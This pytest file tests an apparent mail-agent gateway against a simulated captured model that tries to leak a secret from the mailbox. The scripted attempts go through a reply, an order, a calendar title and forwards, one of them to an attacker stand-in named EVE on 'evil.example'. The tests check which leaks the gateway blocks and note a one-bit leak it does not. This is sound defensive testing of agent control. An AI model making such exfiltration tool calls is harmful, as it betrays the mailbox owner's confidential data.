"""A captured model that has read a secret says it wherever it can: which ways a turn's people hold, and which not.

What they do not hold stands in docs/agents.md.
"""

import json

import pytest

from act.hosted.calls_of_an_attacker import EVE
from act.hosted.test_audience import SECRET, anna_writes
from act.hosted.test_every_tool import ALL, LIMITS, TOOLS, World, world
from gatepost import decide
from gatepost.act.hosted.paper import StepState
from journeys.scene import KEY
from model_api import Block, use
from outbound import NOW, TENANT

__all__ = ["world"]

MEETING = {"calendar": "work", "start": "2026-11-24T09:00:00Z", "end": "2026-11-24T10:00:00Z"}
WORD = SECRET.split()[0][:20]
WAYS: dict[str, Block] = {
    "order": use("order", article=WORD, price=5),
    "calendar": use("calendar_confirm", **MEETING, title=SECRET),
    "to a stranger": use("forward", to=[EVE], note=SECRET),
    "to whom the operator named": use("forward", to=["anna@example.org"], note=SECRET),
    "reply": use("reply", text=SECRET),
}


@pytest.fixture
async def searched(world: World) -> World:
    """A mailbox in which the boss and Anna may both let everything be done, and Anna wrote a secret."""
    stage = world.stage
    policy = {
        "defaultAction": "bounce",
        "senders": [{"match": {"domain": "example.org"}, "capabilities": ALL}],
        "outbound": {"recipients": {"domains": ["example.org", "evil.example"]}},
        "auditLog": {"retentionDays": 30},
    }
    async with stage.scene.house.db.transaction(TENANT) as tx:
        await decide.put_policy(tx, stage.scene.account, policy, at=NOW, actor=KEY)
    await stage.host(tools=TOOLS, limits=LIMITS, budget={"calls_per_turn": 5})
    await anna_writes(stage)
    return world


async def leak(world: World, query: str) -> dict[str, tuple[StepState, str]]:
    """Let the boss ask, and the model search and then say the secret everywhere; return what became of each."""
    stage = world.stage
    stage.api.script = [[use("search_mail", query=query)], [*WAYS.values()]]
    email = await stage.scene.boss_asks()
    await stage.work()
    await stage.send()
    steps = [step for step in await stage.steps(email) if (step.step, step.place > 0) == (2, True)]
    return {name: (step.state, step.reason) for name, step in zip(WAYS, steps, strict=True)}


async def test_a_secret_goes_to_nobody_but_whom_the_operator_named(searched: World) -> None:
    done = await leak(searched, "merger")
    assert done["reply"] == (StepState.HELD, "audience.outside")
    assert done["to a stranger"] == (StepState.REFUSED, "arguments.outside_limits")
    assert [mail.rcpt_tos for mail in searched.smtp.mails] == [["anna@example.org"]]
    # The operator's own servers hear what is said to them, and nobody else does.
    assert (done["order"][0], done["calendar"][0]) == (StepState.DONE, StepState.DONE)
    assert [(path, json.loads(body)["article"]) for _, path, _, body in searched.erp.requests] == [("/order", WORD)]
    assert all(path.startswith("/work/") for _, path, _, _ in searched.dav.requests)


async def test_that_nothing_was_found_holds_no_answer(searched: World) -> None:
    """One bit of the mailbox: docs/agents.md says so."""
    assert (await leak(searched, "takeover"))["reply"] == (StepState.DONE, "tool.granted")
